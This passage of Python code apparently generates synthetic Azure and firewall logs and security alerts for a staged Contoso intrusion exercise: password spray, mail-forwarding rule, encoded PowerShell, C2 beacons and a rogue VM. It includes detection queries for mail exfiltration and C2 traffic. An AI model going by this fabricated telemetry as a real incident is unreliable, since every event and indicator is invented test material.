                                          ("restart/action", "Restart Virtual Machine", "POST", 2),
                                          ("write", "Create or Update Virtual Machine", "PUT", 1),
                                          ("extensions/write", "Create or Update Virtual Machine Extension", "PUT",
                                           1)],
    "Microsoft.Web/sites": [("restart/action", "Restart Web App", "POST", 2), ("config/write",
                                                                               "Update web app config", "PUT", 2),
                            ("slots/slotsswap/action", "Swap Web App Slots", "POST", 1)],
    "Microsoft.Network/networkSecurityGroups": [("securityRules/write", "Create or Update Security Rule", "PUT", 1)],
    "Microsoft.Sql/servers": [("databases/write", "Create/Update SQL database", "PUT", 1),
                              ("firewallRules/write", "Create/Update SQL server firewall rule", "PUT", 1)],
    "Microsoft.Storage/storageAccounts": [("listKeys/action", "List Storage Account Keys", "POST", 4),
                                          ("write", "Create/Update Storage Account", "PUT", 1)],
    "Microsoft.KeyVault/vaults": [("write", "Update Key Vault", "PUT", 1),
                                  ("accessPolicies/write", "Update Key Vault access policy", "PUT", 1)],
    "Microsoft.OperationalInsights/workspaces": [("write", "Create Workspace", "PUT", 1),
                                                 ("savedSearches/write", "Create Saved Search", "PUT", 2)],
}
AUTOMATION_SP = {"id": "3f6e2a1b-7c4d-4e5f-8a9b-0c1d2e3f4a5b", "name": "sp-automation-vmschedule"}
PIPELINE_SP = {"id": "b7a9c1d3-5e7f-4a2b-9c3d-1e5f7a9b2c4d", "name": "sp-azure-devops-deploy"}
POLICY_SP = {"id": "0c1d2e3f-4a5b-46c7-8d9e-0f1a2b3c4d5e", "name": "Azure Policy"}


def resource_id(rg, provider, type_path, name, sub=""):
    rid = f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/{rg}/providers/{provider}/{type_path}/{name}"
    return rid + (f"/{sub}" if sub else "")


def az_event(t, caller, caller_ip, claims_name, op_value, op_name, rg, provider, rid, resource, status,
             correlation, method, category="Administrative", level="Informational", extra_props=None):
    status_map = {"Start": ("Started", ""), "Success": ("Succeeded", "OK"), "Accept": ("Accepted", "Accepted"),
                  "Failure": ("Failed", "BadRequest")}
    act, sub = status_map[status]
    props = {"eventCategory": category, "entity": rid, "message": op_value, "hierarchy":
             f"{AAD_TENANT_ID}/{SUBSCRIPTION_ID}"}
    if status != "Start":
        props["statusCode"] = sub or "OK"
    props.update(extra_props or {})
    auth = {"action": op_value, "scope": rid}
    claims = {"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": caller if "@" in caller else "",
              "name": claims_name, "ipaddr": caller_ip, "appid": "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
              if "@" in caller else caller}
    emit("AzureActivity", t, ActivityStatus=act, ActivityStatusValue=status, ActivitySubstatus=sub,
         ActivitySubstatusValue=sub, Authorization=dyn(auth), Authorization_d=dyn(auth), Caller=caller,
         CallerIpAddress=caller_ip, Category=category, CategoryValue=category, Claims_d=dyn(claims),
         CorrelationId=correlation, EventDataId=guid(), EventSubmissionTimestamp=min(END_T, t + RNG.randrange(
             TPS, 8 * TPS)), Hierarchy=f"{AAD_TENANT_ID}/{SUBSCRIPTION_ID}",
         HTTPRequest=dyn({"clientIpAddress": caller_ip, "method": method})
         if caller_ip else "", Level=level, OperationId=correlation, OperationName=op_name,
         OperationNameValue=op_value.upper(), Properties=dyn(props), Properties_d=dyn(props), Resource=resource,
         ResourceGroup=rg, ResourceId=rid, ResourceProvider=provider, ResourceProviderValue=provider.upper(),
         SourceSystem="Azure", SubscriptionId=SUBSCRIPTION_ID)


def az_operation(t, caller, caller_ip, claims_name, rg, provider, type_path, name, suffix, op_name, method,
                 long_running=False, fail=False, extra_props=None):
    """Start + Accept/Success (or Failure) events of one Azure Resource Manager operation."""
    rid = resource_id(rg, provider, type_path, name)
    op_value = f"{provider}/{type_path}/{suffix}"
    corr = guid()
    az_event(t, caller, caller_ip, claims_name, op_value, op_name, rg, provider, rid, name, "Start", corr, method,
             extra_props=extra_props)
    t2 = t + RNG.randrange(TPS, 6 * TPS)
    if long_running and not fail:
        az_event(t2, caller, caller_ip, claims_name, op_value, op_name, rg, provider, rid, name, "Accept", corr,
                 method, extra_props=extra_props)
        t2 += RNG.randrange(40 * TPS, 180 * TPS)
    if t2 <= END_T:
        az_event(t2, caller, caller_ip, claims_name, op_value, op_name, rg, provider, rid, name,
                 "Failure" if fail else "Success", corr, method, level="Error" if fail else "Informational",
                 extra_props=extra_props)


def gen_azureactivity():
    people = ADMINS + ENGINEERS
    # Humans working in the portal / CLI.
    for _ in range(330):
        user = pick(people)
        t = work_time(user["tz"], weekend_weight=0.08)
        ip, _asn, _city, _m = user_public_ip(user, t)
        rg, provider, tp, name = pick(AZ_RESOURCES)
        suffix, op_name, method, _w = wpick([(o, o[3]) for o in AZ_OPERATIONS[f"{provider}/{tp}"]])
        az_operation(t, user["upn"], ip, user["display"], rg, provider, tp, name, suffix, op_name, method,
                     long_running=method == "PUT" and provider == "Microsoft.Compute", fail=RNG.random() < 0.04)
    # Occasional legitimate role assignments by the IT admins.
    for _ in range(6):
        admin = pick(ADMINS)
        t = work_time(admin["tz"], weekend_weight=0.0)
        ip = OFFICE["US"][0]
        rg = pick(["rg-dev-sandbox", "rg-web-prod"])
        rid = f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/{rg}/providers/Microsoft.Authorization/" \
              f"roleAssignments/{guid()}"
        corr = guid()
        dev = pick(ENGINEERS)
        body = {"Properties": {"PrincipalId": dev["id"], "PrincipalType": "User",   # Contributor on the group
                               "RoleDefinitionId": "/providers/Microsoft.Authorization/roleDefinitions/"
                                                   "b24988ac-6180-42a0-ab88-20f7382dd24c",
                               "Scope": f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/{rg}"}}
        props = {"requestbody": dyn(body)}
        for st, dt in (("Start", 0), ("Success", RNG.randrange(TPS, 3 * TPS))):
            az_event(t + dt, admin["upn"], ip, admin["display"], "Microsoft.Authorization/roleAssignments/write",
                     "Create role assignment", rg, "Microsoft.Authorization", rid, rid.rsplit("/", 1)[1], st, corr,
                     "PUT", extra_props=props)
    # The automation account starts/stops the dev VMs on weekdays; the pipeline deploys the intranet app.
    for k in range(1, DAYS + 1):
        wd = (0 - k) % 7
        day = END_T - k * DAY
        if wd < 5:
            for vm in ("vm-dev-01", "vm-dev-02"):
                for hour, suffix, name in ((15, "start/action", "Start Virtual Machine"),
                                           (3 + 24, "deallocate/action", "Deallocate Virtual Machine")):
                    t = day + hour * HOUR + RNG.randrange(0, 3 * MINUTE)
                    if t < END_T:
                        az_operation(t, AUTOMATION_SP["id"], "", AUTOMATION_SP["name"], "rg-dev-sandbox",
                                     "Microsoft.Compute", "virtualMachines", vm, suffix, name, "POST",
                                     long_running=True)
            if RNG.random() < 0.6:
                t = day + (17 + RNG.randrange(0, 6)) * HOUR + RNG.randrange(HOUR)
                az_operation(t, PIPELINE_SP["id"], "52.175.18.6", PIPELINE_SP["name"], "rg-web-prod",
                             "Microsoft.Web", "sites", "app-contoso-intranet", "slots/slotsswap/action",
                             "Swap Web App Slots", "POST", long_running=True)
    # Azure Policy audit results, around the clock.
    for _ in range(70):
        rg, provider, tp, name = pick(AZ_RESOURCES)
        t = any_time()
        rid = resource_id(rg, provider, tp, name)
        az_event(t, POLICY_SP["id"], "", POLICY_SP["name"], "Microsoft.Authorization/policies/audit/action",
                 "'audit' Policy action.", rg, provider, rid, name, "Success", guid(), "", category="Policy",
                 level="Warning", extra_props={"policies": dyn([{"policyDefinitionName": pick(
                     ["Storage accounts should restrict network access", "Azure Defender for servers should be "
                      "enabled", "Management ports of virtual machines should be protected with just-in-time "
                      "network access control", "Key vaults should have soft delete enabled"]),
                     "policyDefinitionEffect": "Audit"}])})

    # The attacker: Owner on the subscription for mike.jones, then a VM in the finance resource group.
    sub_scope = f"/subscriptions/{SUBSCRIPTION_ID}"
    ra_id = f"{sub_scope}/providers/Microsoft.Authorization/roleAssignments/{guid()}"
    corr = guid()
    props = {"requestbody": dyn({"Properties": {"PrincipalId": VICTIM["id"], "PrincipalType": "User",
                                                "RoleDefinitionId": f"{sub_scope}/providers/Microsoft.Authorization/"
                                                                    f"roleDefinitions/{OWNER_ROLE_ID}",
                                                "Scope": sub_scope}})}
    for st, dt in (("Start", 0), ("Success", 2 * TPS + 317 * TPS // 1000)):
        az_event(ROLE_ASSIGNMENT + dt, VICTIM_UPN, ATTACKER_IP, VICTIM["display"],
                 "Microsoft.Authorization/roleAssignments/write", "Create role assignment", "",
                 "Microsoft.Authorization", ra_id, ra_id.rsplit("/", 1)[1], st, corr, "PUT", extra_props=props)
    vm_body = {"location": "eastus",
               "properties": {"hardwareProfile": {"vmSize": "Standard_NC24ads_A100_v4"},
                              "osProfile": {"computerName": ROGUE_VM, "adminUsername": "azureuser"}}}
    vm_props = {"requestbody": dyn(vm_body)}
    az_operation(VM_CREATE - 95 * TPS, VICTIM_UPN, ATTACKER_IP, VICTIM["display"], ROGUE_RG, "Microsoft.Network",
                 "publicIPAddresses", f"{ROGUE_VM}-ip", "write", "Create or Update Public Ip Address", "PUT")
    az_operation(VM_CREATE - 60 * TPS, VICTIM_UPN, ATTACKER_IP, VICTIM["display"], ROGUE_RG, "Microsoft.Network",
                 "networkInterfaces", f"{ROGUE_VM}-nic", "write", "Create or Update Network Interface", "PUT")
    az_operation(VM_CREATE, VICTIM_UPN, ATTACKER_IP, VICTIM["display"], ROGUE_RG, "Microsoft.Compute",
                 "virtualMachines", ROGUE_VM, "write", "Create or Update Virtual Machine", "PUT", long_running=True,
                 extra_props=vm_props)


# ---------------------------------------------------------------------------------------------------------------
# CommonSecurityLog (Palo Alto Networks firewall PA-FW01) and DnsEvents (SRV-DC01's DNS server)
# ---------------------------------------------------------------------------------------------------------------

FW = "PA-FW01"
FW_EGRESS = OFFICE["US"][0]
SAAS = [   # (destination host, ip, application, weight)
    ("outlook.office365.com", "52.96.165.18", "ms-office365-base", 12),
    ("contoso.sharepoint.com", "13.107.136.10", "ms-onedrive-base", 10),
    ("teams.microsoft.com", "52.113.194.132", "ms-teams", 10),
    ("login.microsoftonline.com", "20.190.151.7", "ssl", 8),
    ("www.google.com", "142.250.69.196", "google-base", 8),
    ("github.com", "140.82.112.4", "github-base", 4),
    ("api.github.com", "140.82.112.6", "github-base", 3),
    ("www.linkedin.com", "13.107.42.14", "linkedin-base", 3),
    ("fonts.gstatic.com", "142.250.217.67", "google-base", 3),
    ("update.googleapis.com", "142.250.69.195", "google-update", 2),
    ("ctldl.windowsupdate.com", "93.184.221.240", "ms-update", 2),
    ("settings-win.data.microsoft.com", "20.42.65.92", "ssl", 2),
    ("zoom.us", "170.114.52.2", "zoom-base", 2),
    ("slack-edge.com", "18.160.41.65", "ssl", 1),
    ("registry.npmjs.org", "104.16.24.34", "ssl", 1),
    ("pypi.org", "151.101.0.223", "ssl", 1),
    ("www.bing.com", "204.79.197.200", "web-browsing", 2),
    ("cdn.jsdelivr.net", "151.101.1.229", "ssl", 1),
    ("time.windows.com", "168.61.215.74", "ntp", 1),
    ("www.wsj.com", "23.55.124.197", "web-browsing", 1),
]
URL_PATHS = ["/", "/owa/", "/sites/Finance/Shared%20Documents/Forms/AllItems.aspx", "/search?q=quarterly+report",
             "/feed/", "/v2/conversations", "/contoso/intranet/pull/412", "/simple/requests/", "/webinar/register"]
URL_CATEGORIES = {"web-browsing": "search-engines", "ssl": "computer-and-internet-info",
                  "ms-office365-base": "business-and-economy", "ms-onedrive-base": "online-storage-and-backup",
                  "github-base": "computer-and-internet-info", "linkedin-base": "social-networking",
                  "google-base": "search-engines", "zoom-base": "business-and-economy"}


def fw(t, src, sport, dst, dport, proto, app, action, sent, recv, rule, src_zone="trust", dst_zone="untrust",
       user="", nat_src="", nat_dst="", activity="TRAFFIC", event_class="end", url="", category="", method="",
       client_app="", severity="1", dst_host=""):
    emit("CommonSecurityLog", t, Activity=activity, ApplicationProtocol=app, Computer=FW, DestinationIP=dst,
         DestinationPort=dport, DestinationTranslatedAddress=nat_dst, DestinationTranslatedPort=dport if nat_dst
         else None, DeviceAction=action, DeviceCustomNumber1=RNG.randrange(10000, 999999),
         DeviceCustomNumber1Label="SessionID", DeviceCustomNumber2=max(1, (sent + recv) // 900),
         DeviceCustomNumber2Label="Packets", DeviceCustomNumber3=RNG.randrange(0, 120),
         DeviceCustomNumber3Label="Elapsed time in seconds", DeviceCustomString1=rule,
         DeviceCustomString1Label="Rule", DeviceCustomString3="vsys1", DeviceCustomString3Label="Virtual System",
         DeviceCustomString4=src_zone, DeviceCustomString4Label="Source Zone", DeviceCustomString5=dst_zone,
         DeviceCustomString5Label="Destination Zone", DeviceCustomString6="default",
         DeviceCustomString6Label="LogProfile", DeviceEventCategory=category, DeviceEventClassID=event_class,
         DeviceExternalID="013201004417", DeviceInboundInterface="ethernet1/2" if src_zone != "untrust"
         else "ethernet1/1", DeviceName=FW, DeviceOutboundInterface="ethernet1/1" if dst_zone == "untrust"
         else "ethernet1/3", DeviceProduct="PAN-OS", DeviceVendor="Palo Alto Networks", DeviceVersion="10.2.7",
         DestinationHostName=dst_host, LogSeverity=severity, Protocol=proto,
         ReceivedBytes=recv,
         RequestClientApplication=client_app, RequestMethod=method, RequestURL=url, SentBytes=sent,
         SourceIP=src, SourcePort=sport, SourceSystem="OpsManager", SourceTranslatedAddress=nat_src,
         SourceUserName=user)


def dns(t, client, name, answers, qtype="A", ok=True):
    emit("DnsEvents", t, ClientIP=client, Computer=DC, EventId=257 if ok else 258, IPAddresses=", ".join(answers),
         Name=name, QueryType=qtype, Result="Success" if ok else "Failure", ResultCode=0 if ok else 3,
         SourceSystem="OpsManager", SubType="LookupQuery", TaskCategory="LOOK_UP")


INTERNAL_NAMES = [("SRV-FS01.contoso.com", "10.0.0.15"), ("SRV-DC01.contoso.com", "10.0.0.10"),
                  ("intranet.contoso.com", "10.0.1.20"), ("lnx-db-01.contoso.com", "10.0.1.40")]


def workstation_clients():
    """(internal ip, user) of everyone's laptop/desktop."""
    return [(u["internal_ip"], u) for u in USER_LIST if u["country"] == "US"]


def gen_commonsecuritylog(n=3720):
    clients = workstation_clients()
    for _ in range(n):
        kind = wpick([("web", 56), ("url", 10), ("dns", 7), ("inbound_web", 14), ("deny", 11), ("ntp", 2)])
        if kind in ("web", "url"):
            ip, user = pick(clients)
            t = work_time(user["tz"])
            host, dst, app, _w = wpick([(s, s[3]) for s in SAAS])
            sent, recv = RNG.randrange(600, 40000), RNG.randrange(2000, 2_500_000)
            if kind == "web":
                fw(t, ip, RNG.randrange(49152, 65535), dst, 443 if app != "ntp" else 123, "TCP", app, "allow", sent,
                   recv, "allow-outbound-web", user=f"contoso\\{user['sam']}", nat_src=FW_EGRESS)
            else:
                path = pick(URL_PATHS)
                fw(t, ip, RNG.randrange(49152, 65535), dst, 443, "TCP", app, "alert", sent, recv,
                   "allow-outbound-web", user=f"contoso\\{user['sam']}", nat_src=FW_EGRESS, activity="THREAT",
                   event_class="url", url=f"https://{host}{path}", category=URL_CATEGORIES.get(app, "business-and-"
                                                                                                "economy"),
                   method="GET", client_app=user_agent(user["os"], user["browser"]), dst_host=host)
        elif kind == "dns":
            t = any_time()
            fw(t, "10.0.0.10", RNG.randrange(49152, 65535), pick(["1.1.1.1", "8.8.8.8"]), 53, "UDP", "dns", "allow",
               RNG.randrange(60, 120), RNG.randrange(90, 500), "allow-dns-forwarders", nat_src=FW_EGRESS)
        elif kind == "ntp":
            t = any_time()
            fw(t, "10.0.0.10", 123, "168.61.215.74", 123, "UDP", "ntp", "allow", 90, 90, "allow-ntp",
               nat_src=FW_EGRESS)
        elif kind == "inbound_web":
            t = any_time()
            fw(t, internet_ip(), RNG.randrange(1024, 65535), PUBLIC_WEB_IP, 443, "TCP", "ssl", "allow",
               RNG.randrange(500, 6000), RNG.randrange(3000, 900000), "dmz-inbound-https", src_zone="untrust",
               dst_zone="dmz", nat_dst="10.0.1.20")
        else:
            t = any_time()
            src = pick(SCANNER_IPS) if RNG.random() < 0.3 else internet_ip()
            port = pick([23, 3389, 445, 1433, 8080, 5900, 22, 25, 3306, 6379])
            fw(t, src, RNG.randrange(1024, 65535), pick([PUBLIC_WEB_IP, PUBLIC_SSH_IP, FW_EGRESS]), port, "TCP",
               "incomplete", "deny", 60, 0, "interzone-default", src_zone="untrust", dst_zone="dmz",
               severity="3")
    # The NL address's ssh attempts (allowed through to lnx-web-01, which logs them in Syslog).
    t = SSH_BRUTE_START - 2 * TPS
    for i in range(len(SSH_BRUTE_ATTEMPTS)):
        fw(t + i * 29 * TPS + RNG.randrange(0, 5 * TPS), SSH_BRUTE_IP, RNG.randrange(30000, 65000), PUBLIC_SSH_IP, 22,
           "TCP", "ssh", "allow", RNG.randrange(1800, 3200), RNG.randrange(2400, 4200), "dmz-inbound-ssh",
           src_zone="untrust", dst_zone="dmz", nat_dst="10.0.1.30")


def gen_dnsevents(n=3660):
    clients = workstation_clients()
    names = [(s[0], s[1], s[3]) for s in SAAS] + [("wpad.contoso.com", "", 2), ("_ldap._tcp.dc._msdcs.contoso.com",
                                                                                 "SRV-DC01.contoso.com", 3)]
    for _ in range(n):
        if RNG.random() < 0.18:            # servers resolve around the clock
            client = pick(["10.0.0.15", "10.0.1.20", "10.0.1.30", "10.0.1.40"])
            t = any_time()
        else:
            client, user = pick(clients)
            t = work_time(user["tz"])
        r = RNG.random()
        if r < 0.15:
            name, addr = pick(INTERNAL_NAMES)
            dns(t, client, name, [addr])
        else:
            name, addr, _w = wpick([(x, x[2]) for x in names])
            if name == "wpad.contoso.com":
                dns(t, client, name, [], ok=False)
            elif name.startswith("_ldap"):
                dns(t, client, name, [addr], qtype="SRV")
            else:
                octets = addr.split(".")
                answers = [addr] + ([".".join(octets[:3] + [str((int(octets[3]) + 1) % 255)])] if RNG.random() < 0.4
                                    else [])
                dns(t, client, name, answers, qtype="A" if RNG.random() < 0.9 else "AAAA")


def c2_beacon_times():
    """Beacon times: ~every 10 minutes from FIRST_BEACON, the last one exactly at END."""
    times, t = [END_T], END_T
    while True:
        t -= int(BEACON_INTERVAL_S * TPS * RNG.uniform(0.9, 1.1))
        if t <= FIRST_BEACON + 5 * MINUTE:
            break
        times.append(t)
    times.append(FIRST_BEACON)
    return sorted(times)


BEACONS = c2_beacon_times()


def gen_c2():
    """The stage-2 download and the beacons: DnsEvents + CommonSecurityLog from WKS-FIN-07."""
    ps_ua = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803"
    dns(STAGE2_FETCH - 9 * TPS // 10, VICTIM_HOST_IP, C2_DOMAIN, [C2_IP])
    fw(STAGE2_FETCH, VICTIM_HOST_IP, 50112, C2_IP, 443, "TCP", "web-browsing", "alert", 412, 18734,
       "allow-outbound-web", user="contoso\\mjones", nat_src=FW_EGRESS, activity="THREAT", event_class="url",
       url=STAGE2_URL, category="newly-registered-domain", method="GET", client_app=ps_ua, dst_host=C2_DOMAIN)
    for i, t in enumerate(BEACONS):
        dns(t - RNG.randrange(TPS // 50, TPS // 5), VICTIM_HOST_IP, C2_DOMAIN, [C2_IP])
        big = RNG.random() < 0.06
        sent = RNG.randrange(20000, 160000) if big else RNG.randrange(380, 920)
        recv = RNG.randrange(8000, 64000) if big else RNG.randrange(260, 4100)
        fw(t, VICTIM_HOST_IP, RNG.randrange(49152, 65535), C2_IP, 443, "TCP", "ssl", "alert", sent, recv,
           "allow-outbound-web", user="contoso\\mjones", nat_src=FW_EGRESS, activity="THREAT", event_class="url",
           url=BEACON_URL, category="newly-registered-domain", method="GET", client_app="Mozilla/5.0",
           dst_host=C2_DOMAIN)


# ---------------------------------------------------------------------------------------------------------------
# Heartbeat
# ---------------------------------------------------------------------------------------------------------------

def gen_heartbeat():
    for name, ip, os_name, (major, minor), kind, _owner in COMPUTERS:
        linux = kind == "linux"
        offset = RNG.randrange(0, 59 * MINUTE)
        vm_uuid = guid()
        for h in range(DAYS * 24):
            t = START_T + h * HOUR + offset + RNG.randrange(0, 20 * TPS)
            if not (START_T < t < END_T):
                continue
            emit("Heartbeat", t, Category="Azure Monitor Agent" if linux else "Direct Agent", Computer=name,
                 ComputerEnvironment="Non-Azure", ComputerIP=FW_EGRESS, ComputerPrivateIPs=dyn([ip]),
                 IsGatewayInstalled=False, OSMajorVersion=major, OSMinorVersion=minor, OSName=os_name,
                 OSType="Linux" if linux else "Windows", RemoteIPCountry="United States",
                 RemoteIPLatitude=47.6062, RemoteIPLongitude=-122.3321, Resource=short(name),
                 ResourceType="machines", SCAgentChannel="" if linux else "Direct",
                 Solutions="" if linux else "\"security\", \"changeTracking\", \"updates\"",
                 SourceSystem="Linux" if linux else "OpsManager", Version="1.29.4" if linux else "10.20.18069.0",
                 VMUUID=vm_uuid, ManagementGroupName="" if linux else f"AOI-{WORKSPACE_ID}")


# ---------------------------------------------------------------------------------------------------------------
# SecurityAlert
# ---------------------------------------------------------------------------------------------------------------

def ent_account(user):
    return {"Type": "account", "Name": user["sam"], "UPNSuffix": DOMAIN, "NTDomain": NETBIOS,
            "AadUserId": user["id"]}


def ent_host(fqdn):
    return {"Type": "host", "HostName": short(fqdn), "DnsDomain": DOMAIN if "." in fqdn else "",
            "OSFamily": "Linux" if fqdn.startswith("lnx") else "Windows"}


def ent_ip(addr):
    return {"Type": "ip", "Address": addr}


def entities(*items):
    return dyn([dict({"$id": str(i + 2)}, **e) for i, e in enumerate(items)])


def alert(t, name, severity, product, description, ents, ext, compromised, start, end, tactics, techniques,
          subtechniques=(), host=None, alert_type=None, remediation=()):
    sentinel = product == "Azure Sentinel"
    sys_id = guid()
    emit("SecurityAlert", t, AlertName=name, AlertSeverity=severity,
         AlertType=alert_type or (f"{WORKSPACE_ID}_{guid()}" if sentinel else "VM_" + name.title().replace(" ", "")),
         AlertLink="" if sentinel else f"https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
                                       f"AlertBlade/alertId/{sys_id}/subscriptionId/{SUBSCRIPTION_ID}",
         CompromisedEntity=compromised, ConfidenceLevel="", ConfidenceScore=None, Description=description,
         DisplayName=name, EndTime=end, Entities=ents, ExtendedProperties=dyn(ext), IsIncident=False,
         ProcessingEndTime=min(END_T, t + RNG.randrange(TPS, 20 * TPS)),
         ProductComponentName="Scheduled Alerts" if sentinel else "Servers",
         ProductName=product, ProviderName="ASI Scheduled Alerts" if sentinel else "Detection",
         RemediationSteps=dyn(list(remediation)) if remediation else "",
         ResourceId="" if sentinel or not host else f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/rg-monitoring/"
                                                   f"providers/Microsoft.HybridCompute/machines/{short(host)}",
         SourceComputerId=COMPUTER_IDS.get(host, "") if host else "", StartTime=start, Status="New",
         SubTechniques=dyn(list(subtechniques)) if subtechniques else "", SystemAlertId=sys_id,
         Tactics=tactics, Techniques=dyn(list(techniques)), VendorName="Microsoft",
         VendorOriginalId=guid() if sentinel else str(2517000000000000000 - t // 1000),
         WorkspaceResourceGroup="rg-monitoring", WorkspaceSubscriptionId=SUBSCRIPTION_ID)


def sentinel_ext(query, count, sources, period="1.00:00:00"):
    return {"Query Period": period, "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
            "Search Query Results Overall Count": str(count), "Data Sources": dyn(sources), "Query": query,
            "Analytic Rule Name": "", "Event Grouping": "SingleAlert"}


def gen_securityalert():
    victim_acc = ent_account(VICTIM)
    # 1. Password spray.
    spray_accounts = [ent_account(USERS[k]) for k in SPRAY_TARGETS]
    ext = sentinel_ext('SigninLogs\n| where ResultType == "50126"\n| summarize Users = dcount(UserPrincipalName), '
                       'Attempts = count() by IPAddress\n| where Users >= 5', 3, ["SigninLogs"])
    ext["Analytic Rule Name"] = "Password spray attack against Azure AD"
    alert(SPRAY_ALERT, "Password spray attack against Azure AD", "High", "Azure Sentinel",
          "Three IP addresses failed to sign in to 10 accounts with ResultType 50126 within 40 minutes; one "
          "account (mike.jones@contoso.com) then signed in successfully from 185.220.101.45.",
          entities(*(ent_ip(ip) for ip in SPRAY_IPS), *spray_accounts), ext, VICTIM_UPN, SPRAY_START, SPRAY_LAST,
          "CredentialAccess", ["T1110"], ["T1110.003"],
          remediation=["Reset the password of mike.jones@contoso.com and revoke its sessions.",
                       "Block the source IP addresses.", "Require MFA for legacy/ROPC sign-ins."])
    # 2. Inbox forwarding rule.
    ext = sentinel_ext('OfficeActivity\n| where Operation in ("New-InboxRule", "Set-InboxRule")\n| where Parameters '
                       'has_any ("ForwardTo", "RedirectTo", "ForwardAsAttachmentTo")\n| where Parameters !has '
                       '"@contoso.com"', 1, ["OfficeActivity"])
    ext["Analytic Rule Name"] = "Suspicious inbox forwarding rule"
    alert(INBOX_ALERT, "Suspicious inbox forwarding rule", "Medium", "Azure Sentinel",
          f"mike.jones@contoso.com created the inbox rule '{INBOX_RULE_NAME}' forwarding mail that mentions "
          f"invoices, payments or wires to {FORWARD_TO}, from {ATTACKER_IP}.",
          entities(victim_acc, ent_ip(ATTACKER_IP), {"Type": "mailbox", "MailboxPrimaryAddress": VICTIM_UPN,
                                                     "DisplayName": VICTIM["display"], "Upn": VICTIM_UPN},
                   {"Type": "mailMessage", "Recipient": FORWARD_TO}),
          ext, VICTIM_UPN, INBOX_RULE, INBOX_RULE, "Collection,Exfiltration", ["T1114"], ["T1114.003"])
    # 3. Suspicious PowerShell on WKS-FIN-07 (Defender for Cloud).
    alert(PS_ALERT, "Suspicious PowerShell command line", "High", "Azure Security Center",
          "A PowerShell process started hidden with an encoded command that downloads and runs a script from the "
          "internet.",
          entities(ent_host(VICTIM_HOST), victim_acc,
                   {"Type": "process", "ProcessId": "7988", "CommandLine": ENCODED_CMDLINE,
                    "CreationTimeUtc": iso(ENCODED_PS)},
                   {"Type": "url", "Url": STAGE2_URL}),
          {"Compromised Host": short(VICTIM_HOST), "User Name": f"{NETBIOS}\\{VICTIM_SAM}",
           "Suspicious Process": "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
           "Suspicious Command Line": ENCODED_CMDLINE, "Parent Process": "c:\\windows\\explorer.exe",
           "Suspicious Process Id": "0x1f34", "resourceType": "Non-Azure Machine"},
          short(VICTIM_HOST), ENCODED_PS, ENCODED_PS, "Execution", ["T1059"], ["T1059.001"], host=VICTIM_HOST,
          alert_type="VM_SuspiciousPowerShellCmdLine",
          remediation=["Isolate WKS-FIN-07.", "Review the decoded command and the processes it started."])
    # 4. C2 domain (TI match on DNS).
    window_end = C2_ALERT - 5 * MINUTE
    hits = 1 + sum(1 for b in BEACONS if b <= window_end)
    ext = sentinel_ext('let iocs = ThreatIntelligenceIndicator | where Active and isnotempty(DomainName);\n'
                       'DnsEvents\n| join kind=inner (iocs) on $left.Name == $right.DomainName', hits,
                       ["DnsEvents", "ThreatIntelligenceIndicator"], period="01:00:00")
    ext["Analytic Rule Name"] = "Communication with known C2 domain"
    alert(C2_ALERT, "Communication with known C2 domain", "High", "Azure Sentinel",
          f"{short(VICTIM_HOST)} ({VICTIM_HOST_IP}) resolved and connected to {C2_DOMAIN} ({C2_IP}), a domain in "
          f"the threat intelligence feed, about every 10 minutes.",
          entities(ent_host(VICTIM_HOST), ent_ip(VICTIM_HOST_IP), ent_ip(C2_IP), {"Type": "dns",
                                                                                   "DomainName": C2_DOMAIN},
                   {"Type": "url", "Url": BEACON_URL}),
          ext, short(VICTIM_HOST), STAGE2_FETCH - TPS, window_end, "CommandAndControl", ["T1071"], ["T1071.001"])

    # Routine, lower-severity alerts.
    def when(pinned=None):
        return pinned if pinned else any_time(hi=END_T - HOUR)

    for pinned in (None, None, None, None, at(-1, "16:22:10"), None):
        user = pick([u for u in USER_LIST if u["workstation"]])
        t = when(pinned)
        alert(t, "Failed logon attempts by valid accounts within 10 mins", "Low", "Azure Sentinel",
              f"{user['account']} failed to log on several times within 10 minutes.",
              entities(ent_account(user), ent_host(user["workstation"])),
              sentinel_ext("SecurityEvent\n| where EventID == 4625\n| summarize count() by Account, Computer, "
                           "bin(TimeGenerated, 10m)\n| where count_ > 3", RNG.randrange(4, 9), ["SecurityEvent"]),
              user["account"], t - 10 * MINUTE, t - RNG.randrange(MINUTE, 5 * MINUTE), "CredentialAccess",
              ["T1110"])
    traveller = USERS[TRAVELLER]
    for d in TRAVEL_DAYS:
        t = at(d, "15:41:09")
        alert(t, "Anomalous sign-in location by user account", "Low", "Azure Sentinel",
              f"{traveller['upn']} signed in from Toronto, CA, a location not seen for this user in 14 days.",
              entities(ent_account(traveller), ent_ip(TRAVEL_IP)),
              sentinel_ext("SigninLogs\n| summarize Locations = make_set(Location) by UserPrincipalName", 1,
                           ["SigninLogs"]), traveller["upn"], t - 2 * HOUR, t - HOUR, "InitialAccess", ["T1078"])
    for pinned in (None, None, None, None, at(-1, "20:03:55")):
        host = pick(WORKSTATIONS)[0]
        t = when(pinned)
        threat = pick(["PUA:Win32/Presenoker", "PUA:Win32/Caypnamer.A!ml", "Trojan:Win32/Wacatac.B!ml",
                       "PUA:Win32/InstallCore"])
        fname = pick(["setup_free_pdf.exe", "driver_updater.exe", "YTDownloaderInstaller.exe"])
        alert(t, "Antimalware Action Taken", "Low", "Azure Security Center",
              f"Microsoft Antimalware quarantined {threat} in {fname}.",
              entities(ent_host(host), {"Type": "file", "Name": fname, "Directory": "C:\\Users\\Public\\Downloads"}),
              {"Compromised Host": short(host), "Threat Name": threat, "Action Taken": "Quarantine",
               "File Path": f"C:\\Users\\Public\\Downloads\\{fname}", "resourceType": "Non-Azure Machine"},
              short(host), t, t, "Execution", ["T1204"], host=host, alert_type="VM_AmLowSeverityMalware")
    for _ in range(5):
        t = when()
        ip = pick(SCANNER_IPS)
        alert(t, "Traffic detected from IP addresses recommended for blocking", "Low", "Azure Security Center",
              f"Inbound traffic to SRV-WEB01 from {ip}, an address seen scanning the internet.",
